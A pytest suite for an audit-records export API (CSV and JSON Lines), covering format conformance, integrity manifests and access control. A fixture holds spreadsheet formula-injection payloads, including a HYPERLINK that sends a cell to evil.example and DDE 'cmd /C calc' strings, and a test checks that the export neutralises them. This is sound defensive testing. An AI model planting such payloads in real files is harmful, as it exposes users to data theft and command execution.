"""GET /api/v1/records/export: standard files (RFC 4180 CSV, JSON Lines) whose content
equals the database, the filter and time in headers, a manifest that detects a truncated
download, formula-safe CSV cells, the governance event, access."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import hashlib
import io
import json
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from asgiref.sync import sync_to_async
from django.db import connections
from django.test import AsyncClient, Client

from audit import export
from audit.chain import chain_seal
from audit.models import InterceptionRecord, RecordExport
from audit.selectors import records_filter
from console.embedded import database_is_postgresql
from console.governance.models import GovernanceEvent
from tests.audit.record_wires import items, sdk_session, tool_items

URL = "/api/v1/records/export"
pytestmark = pytest.mark.django_db


@pytest.fixture
def data(client, sre, other) -> None:
    for agent, calls in ((sre, ["ls", "rm", "deploy"]), (sre, ["crash", "audit"]), (other, ["rm"])):
        body = json.dumps(tool_items(calls))
        response = client.post(
            "/api/v1/records", data=body, content_type="application/json", **agent.headers()
        )
        assert response.status_code == 202
    chain_seal(sre.agent.pk)  # sre sealed, other left pending: both shapes exported


def sync_streams(qs: Any, fmt: str, finish: Any) -> list[Any]:
    """The sync streams of this database: COPY and the portable one on PostgreSQL."""
    streams = [export.stream_python(qs, fmt, finish)]
    if database_is_postgresql():
        streams.insert(0, export.stream_copy(export.copy_statement(qs, fmt), fmt, finish))
    return streams


def body_of(response: Any) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    return b"".join(response.streaming_content)


def from_db(record: InterceptionRecord) -> dict[str, Any]:
    """The expected row, built from the model without the export's own formatting code."""
    seal = getattr(record, "seal", None)
    return {
        "id": record.pk,
        "timestamp": record.timestamp,
        "received_at": record.received_at,
        "agent": record.agent.slug,
        "custom_agent": record.custom_agent,
        "session_id": record.session_id,
        "sequence": record.sequence,
        "interception_point": record.interception_point,
        "mode": record.mode,
        "decision": record.decision,
        "outcome": record.outcome,
        "reason": record.reason,
        "resolved_by": record.resolved_by,
        "decided_by": record.decided_by,
        "decided_hook": record.decided_hook,
        "fold_truncated": record.fold_truncated,
        "input_identity": record.input_identity,
        "enforced_identity": record.enforced_identity,
        "hook_ids": record.hook_ids,
        "tool_name": record.tool_name,
        "framework": record.framework,
        "revision": record.revision,
        "chain_seq": seal.chain_seq if seal else None,
        "chain_prev": seal.chain_prev if seal else None,
        "chain_hash": seal.chain_hash if seal else None,
        "record": record.raw,
    }


def expected_rows(**filters: str) -> list[dict[str, Any]]:
    qs = InterceptionRecord.objects.select_related("agent", "seal").order_by("timestamp", "id")
    if "agent" in filters:
        qs = qs.filter(agent__slug=filters["agent"])
    if "outcome" in filters:
        qs = qs.filter(outcome=filters["outcome"])
    return [from_db(record) for record in qs]


def _time(value: str) -> dt.datetime:
    return dt.datetime.fromisoformat(value.replace("Z", "+00:00"))


def parse_csv_row(row: dict[str, str]) -> dict[str, Any]:
    def number(value: str) -> int | None:
        return int(value) if value != "" else None

    parsed: dict[str, Any] = dict(row)
    for name in ("id", "sequence", "decided_by", "chain_seq"):
        parsed[name] = number(row[name])
    for name in ("timestamp", "received_at"):
        parsed[name] = _time(row[name])
    parsed["fold_truncated"] = {"true": True, "false": False, "": None}[row["fold_truncated"]]
    parsed["hook_ids"] = json.loads(row["hook_ids"])
    parsed["record"] = json.loads(row["record"])
    for name in ("chain_prev", "chain_hash"):
        parsed[name] = row[name] or None
    return parsed


def strict_csv(body: bytes) -> list[list[str]]:
    """RFC 4180 as a strict importer reads it: UTF-8, the column header first, every row
    the same number of cells, every line ended by CRLF, nothing before or after."""
    text = body.decode("utf-8")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert rows[0] == list(export.COLUMNS)
    assert {len(row) for row in rows} == {len(export.COLUMNS)}
    assert text.count("\r\n") == len(rows)  # no LF without its CR (no field holds one here)
    assert "\n" not in text.replace("\r\n", "")
    return rows


def parse_csv(body: bytes) -> list[dict[str, Any]]:
    header, *rows = strict_csv(body)
    return [parse_csv_row(dict(zip(header, row, strict=True))) for row in rows]


def parse_jsonl(body: bytes) -> list[dict[str, Any]]:
    """One JSON object per line, every line the same keys, nothing else."""
    text = body.decode("utf-8")
    assert text == "" or text.endswith("\n")
    rows = [json.loads(line) for line in text.split("\n")[:-1]]
    assert all(list(row) == list(export.COLUMNS) for row in rows)
    for row in rows:
        row["timestamp"], row["received_at"] = _time(row["timestamp"]), _time(row["received_at"])
    return rows


def manifest_of(client: Client, response: Any) -> dict[str, Any]:
    url = response["X-Export-Manifest"]
    assert response["Link"] == f'<{url}>; rel="describedby"'
    answer = client.get(urlsplit(url).path)
    assert answer.status_code == 200
    return answer.json()


def test_csv_export_is_rfc_4180_and_equals_the_database_for_the_filter(auditor_client, data):
    response = auditor_client.get(URL, {"format": "csv", "agent": "sre-agent"})
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    rows = parse_csv(body_of(response))
    expected = expected_rows(agent="sre-agent")
    assert len(expected) == 13
    assert rows == expected
    assert all(row["chain_seq"] and len(row["chain_hash"]) == 64 for row in rows)


def test_jsonl_export_is_one_record_per_line_and_equals_the_database(auditor_client, data):
    response = auditor_client.get(URL, {"format": "jsonl", "outcome": "denied"})
    assert response["Content-Type"] == "application/x-ndjson"
    rows = parse_jsonl(body_of(response))
    assert rows == expected_rows(outcome="denied")
    assert {row["agent"] for row in rows} == {"sre-agent", "other-agent"}


def test_filter_and_generation_time_travel_in_headers(auditor_client, audrey, data):
    before = dt.datetime.now(dt.UTC)
    response = auditor_client.get(
        URL, {"format": "csv", "agent": "sre-agent", "q": "rm -rf & co", "outcome": "denied"}
    )
    body_of(response)
    assert parse_qs(response["X-Export-Filter"]) == {
        "agent": ["sre-agent"],
        "outcome": ["denied"],
        "q": ["rm -rf & co"],
    }
    generated = _time(response["X-Export-Generated-At"])
    assert before <= generated <= dt.datetime.now(dt.UTC)
    stored = RecordExport.objects.get(pk=response["X-Export-Id"])
    assert stored.actor == audrey and stored.generated_at == generated
    stamp = generated.strftime("%Y%m%dT%H%M%SZ")
    assert response["Content-Disposition"] == f'attachment; filename="records-{stamp}.csv"'


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_manifest_gives_rows_size_and_sha256_of_exactly_the_bytes_sent(auditor_client, data, fmt):
    response = auditor_client.get(URL, {"format": fmt, "agent": "sre-agent"})
    body = body_of(response)
    manifest = manifest_of(auditor_client, response)
    assert manifest == {
        "id": response["X-Export-Id"],
        "format": fmt,
        "filter": {"agent": "sre-agent"},
        "generated_at": response["X-Export-Generated-At"],
        "complete": True,
        "completed_at": manifest["completed_at"],
        "rows": 13,
        "bytes": len(body),
        "sha256": hashlib.sha256(body).hexdigest(),
    }
    truncated = body[: body.rindex(b"\n", 0, len(body) - 1) + 1]  # the last row lost
    assert hashlib.sha256(truncated).hexdigest() != manifest["sha256"]


def test_manifest_is_complete_only_once_the_last_byte_is_produced(
    auditor_client, alice, data, monkeypatch
):
    monkeypatch.setattr(export, "CHUNK_BYTES", 1024)  # several pieces
    response = auditor_client.get(URL, {"format": "csv"})
    assert manifest_of(auditor_client, response)["complete"] is False
    received = b"".join(response.streaming_content)
    manifest = manifest_of(auditor_client, response)
    assert manifest["complete"] is True
    assert manifest["rows"] == 18 and manifest["bytes"] == len(received)
    assert manifest["sha256"] == hashlib.sha256(received).hexdigest()

    # The manifest is recorded after every byte is produced, before the last piece leaves.
    monkeypatch.setattr(export, "ROWS_PER_FETCH", 2)  # the portable stream's pieces too
    sent: list[bytes] = []
    at_finish: list[int] = []
    qs = records_filter({}, user=alice)
    for stream in sync_streams(qs, "csv", lambda m: at_finish.append(len(sent))):
        sent.clear()
        at_finish.clear()
        for piece in stream:
            sent.append(piece)
        assert len(sent) > 2 and at_finish == [len(sent) - 1]


def test_a_broken_off_stream_records_no_manifest(alice, data, monkeypatch):
    monkeypatch.setattr(export, "CHUNK_BYTES", 1024)
    monkeypatch.setattr(export, "ROWS_PER_FETCH", 5)
    finished: list[export.Manifest] = []
    qs = records_filter({}, user=alice)
    for stream in sync_streams(qs, "jsonl", finished.append):
        assert next(stream)
        stream.close()  # the client went away
    assert finished == []
    assert InterceptionRecord.objects.count() == 18  # the connection is usable again


@pytest.mark.postgresql
def test_a_client_leaving_mid_copy_leaves_the_transaction_usable(data, monkeypatch):
    """psycopg cancels a COPY closed mid-stream; inside a transaction that cancel would leave
    it aborted. This COPY runs for 10 s (200 rows of 50 ms), so the close lands in it."""
    monkeypatch.setattr(export, "CHUNK_BYTES", 1024)
    slow = "COPY (SELECT repeat('x', 2000), pg_sleep(0.05) FROM generate_series(1, 200)) TO STDOUT"
    finished: list[export.Manifest] = []
    stream = export.stream_copy(slow, "jsonl", finished.append)
    assert next(stream)
    stream.close()
    assert finished == []
    assert InterceptionRecord.objects.count() == 18


def test_empty_export_is_the_header_alone_and_complete(auditor_client, data):
    response = auditor_client.get(URL, {"format": "csv", "agent": "nobody"})
    body = body_of(response)
    assert strict_csv(body) == [list(export.COLUMNS)]
    manifest = manifest_of(auditor_client, response)
    assert (manifest["complete"], manifest["rows"], manifest["bytes"]) == (True, 0, len(body))
    jsonl = auditor_client.get(URL, {"format": "jsonl", "agent": "nobody"})
    assert body_of(jsonl) == b""
    assert manifest_of(auditor_client, jsonl)["rows"] == 0


HOSTILE = {
    "session_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "tool_name": "+cmd|' /C calc'!A0",
    "custom_agent": "-2+3",
    "framework": "@SUM(1+1)*cmd|' /C calc'!A0",
    "revision": "'=already quoted",
}


@pytest.fixture
def hostile(client, sre) -> None:
    wires = sdk_session(["ls"], session_id=HOSTILE["session_id"])
    batch = items(
        wires,
        tool_name=HOSTILE["tool_name"],
        custom_agent=HOSTILE["custom_agent"],
        framework=HOSTILE["framework"],
        revision=HOSTILE["revision"],
    )
    wires[0]["verdict"]["reason"] = "\t=1+1"
    wires[1]["verdict"]["reason"] = "\r=1+1"
    wires[2]["verdict"]["reason"] = 'a = b, "quoted"\nsecond line'
    response = client.post(
        "/api/v1/records", data=json.dumps(batch), content_type="application/json", **sre.headers()
    )
    assert response.status_code == 202, response.content


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(auditor_client, hostile):
    body = body_of(auditor_client.get(URL, {"format": "csv"}))
    header, *rows = list(csv.reader(io.StringIO(body.decode(), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(header)}
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    for name, value in HOSTILE.items():
        assert {cell[name] for cell in cells} == {"'" + value}, name
    assert [cell["reason"] for cell in cells[:3]] == [
        "'\t=1+1",
        "'\r=1+1",
        'a = b, "quoted"\nsecond line',  # not a formula: unchanged, line break kept
    ]
    for cell in cells:
        for name in export.TEXT_COLUMNS:
            assert not cell[name] or cell[name][0] not in "=+-@\t\r", (name, cell[name])
        assert json.loads(cell["record"])["session_id"] == HOSTILE["session_id"]  # raw JSON
    raw = body.decode()
    assert '"a = b, ""quoted""\nsecond line"' in raw  # the LF inside quotes stays an LF
    assert raw.count("\r\n") == len(rows) + 1  # every row still ends with CRLF


def test_jsonl_carries_the_raw_values(auditor_client, hostile):
    rows = parse_jsonl(body_of(auditor_client.get(URL, {"format": "jsonl"})))
    for name, value in HOSTILE.items():
        assert {row[name] for row in rows} == {value}
    assert [row["reason"] for row in rows[:2]] == ["\t=1+1", "\r=1+1"]


@pytest.mark.postgresql
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_portable_path_writes_the_same_content_as_copy(alice, data, hostile, fmt):
    qs = records_filter({}, user=alice)
    manifests: list[export.Manifest] = []
    copied = b"".join(export.stream_copy(export.copy_statement(qs, fmt), fmt, manifests.append))
    portable = b"".join(export.stream_python(qs, fmt, manifests.append))

    def parse(body: bytes) -> list[Any]:
        if fmt == "jsonl":
            return [json.loads(line) for line in body.decode().split("\n")[:-1]]
        header, *rows = csv.reader(io.StringIO(body.decode(), newline=""), strict=True)
        assert header == list(export.COLUMNS)
        return [parse_csv_row(dict(zip(header, row, strict=True))) for row in rows]

    assert parse(copied) == parse(portable)
    assert len(parse(copied)) == 18 + 5
    if fmt == "csv":
        assert copied.count(b"\r\n") == portable.count(b"\r\n")
    assert [m.rows for m in manifests] == [23, 23]
    assert manifests[0].sha256 == hashlib.sha256(copied).hexdigest()
    assert manifests[1].sha256 == hashlib.sha256(portable).hexdigest()


def _csv_lines(rows: list[list[str]], end: str) -> list[bytes]:
    """Each row as CSV with minimal quoting (PostgreSQL's COPY quotes the same fields)."""
    lines = []
    for row in rows:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator=end).writerow(row)
        lines.append(buffer.getvalue().encode())
    return lines


@pytest.mark.parametrize("chunk", [1, 7, 40, 10_000])
def test_copy_rows_get_crlf_ends_and_keep_line_breaks_inside_fields(monkeypatch, chunk):
    monkeypatch.setattr(export, "CHUNK_BYTES", chunk)
    rows = [["1", 'say "hi"\nthen go', "x"], ["2", "\n", '"'], ["3", "a,b", "c"]]
    rows += [["4", "\r\n", "d"], ["5", "plain", "e"], ["6", 'odd " quote\n', "f"]]
    header = b"n,text,z\r\n"
    pieces = export._Pieces(header, copy_rows=True)
    out = b"".join(
        piece for block in _csv_lines(rows, "\n") if (piece := pieces.add(block)) is not None
    )
    rest, manifest = pieces.last(rows=len(rows))
    out += rest
    assert out == header + b"".join(_csv_lines(rows, "\r\n"))
    parsed = list(csv.reader(io.StringIO(out.decode(), newline=""), strict=True))
    assert parsed == [["n", "text", "z"], *rows]
    assert manifest.size == len(out) and manifest.sha256 == hashlib.sha256(out).hexdigest()


def test_export_writes_a_governance_event_naming_the_filter(auditor_client, audrey, data):
    response = auditor_client.get(URL, {"format": "csv", "agent": "sre-agent", "outcome": "denied"})
    body_of(response)
    event = GovernanceEvent.objects.get(action="records.exported")
    assert event.actor == audrey
    assert event.after == {"filter": {"agent": "sre-agent", "outcome": "denied"}, "format": "csv"}
    assert "agent=sre-agent outcome=denied" in event.summary
    assert (event.object_type, event.object_id) == ("RecordExport", response["X-Export-Id"])


def test_default_format_is_csv_and_is_an_attachment(admin_client, data):
    response = admin_client.get(URL)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="records-')
    assert len(strict_csv(body_of(response))) == 1 + 18


@pytest.mark.parametrize(
    ("params", "pointer"),
    [({"format": "xml"}, "/format"), ({"since": "soon"}, "/since"), ({"colour": "red"}, "/colour")],
)
def test_bad_format_or_filter_is_400_and_no_event(auditor_client, data, params, pointer):
    response = auditor_client.get(URL, params)
    assert response.status_code == 400
    assert list(response.json()["error"]["fields"]) == [pointer]
    assert not GovernanceEvent.objects.filter(action="records.exported").exists()
    assert not RecordExport.objects.exists()


@pytest.mark.parametrize("who", ["reviewer_client", "outsider_client"])
def test_only_auditors_and_admins_export(request, who, data):
    assert request.getfixturevalue(who).get(URL).status_code == 403


def test_agent_tokens_may_not_export(client, sre, data):
    assert client.get(URL, **sre.headers()).status_code == 403


def test_manifest_is_for_auditors_and_admins_and_404_for_an_unknown_export(
    request, auditor_client, admin_client, client, sre, data
):
    response = auditor_client.get(URL, {"format": "jsonl"})
    body_of(response)
    path = urlsplit(response["X-Export-Manifest"]).path
    assert admin_client.get(path).status_code == 200
    for who in ("reviewer_client", "outsider_client"):
        assert request.getfixturevalue(who).get(path).status_code == 403
    assert client.get(path, **sre.headers()).status_code == 403
    unknown = path.replace(response["X-Export-Id"], "00000000-0000-4000-8000-000000000000")
    assert auditor_client.get(unknown).status_code == 404


@pytest.mark.postgresql
@pytest.mark.django_db(transaction=True)
def test_async_stream_uses_its_own_connection_and_matches_the_sync_one(alice, data):
    qs = records_filter({"agent": "sre-agent"}, user=alice)
    for fmt in ("csv", "jsonl"):
        statement = export.copy_statement(qs, fmt)
        manifests: list[export.Manifest] = []

        async def finish(manifest: export.Manifest) -> None:
            manifests.append(manifest)

        async def consume() -> bytes:
            return b"".join([chunk async for chunk in export.astream_copy(statement, fmt, finish)])

        streamed = asyncio.run(consume())
        synced = b"".join(export.stream_copy(statement, fmt, manifests.append))
        assert streamed == synced
        assert manifests[0] == manifests[1]
        assert manifests[0].rows == 13


@pytest.mark.django_db(transaction=True)
def test_under_asgi_the_async_stream_records_the_manifest_of_its_bytes(audrey, data):
    async def download() -> tuple[Any, bytes, dict[str, Any]]:
        client = AsyncClient()
        await client.aforce_login(audrey)
        response = await client.get(URL, {"format": "csv", "agent": "sre-agent"})
        assert response.status_code == 200
        body = b"".join([chunk async for chunk in response.streaming_content])
        manifest = await client.get(urlsplit(response["X-Export-Manifest"]).path)
        # The test client keeps Django from closing the request thread's connection.
        await sync_to_async(connections.close_all)()
        return response, body, manifest.json()

    response, body, manifest = asyncio.run(download())
    assert parse_csv(body) == expected_rows(agent="sre-agent")
    assert manifest["complete"] is True and manifest["rows"] == 13
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
